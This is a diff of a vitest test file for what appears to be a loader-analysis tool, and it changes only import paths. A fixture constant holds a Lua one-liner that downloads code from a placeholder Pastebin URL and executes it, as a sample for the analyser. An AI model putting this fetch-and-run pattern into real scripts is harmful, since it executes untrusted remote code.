@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
-import { addedHigh, changeSentences, diffAnalyses, noChanges } from '../../contract/analysis-diff.ts';
-import { analyseLoader } from '../../contract/loader-analysis.ts';
-import { finding } from '../../contract/loader-findings.ts';
+import { addedHigh, changeSentences, diffAnalyses, noChanges } from './analysis-diff.ts';
+import { analyseLoader } from './loader-analysis.ts';
+import { finding } from './loader-findings.ts';
 
 // Real loaders analysed by the real analysis: the diff is of what a save stores and a visitor reads.
 const PASTE = 'loadstring(game:HttpGet("https://pastebin.com/raw/abc"))()';
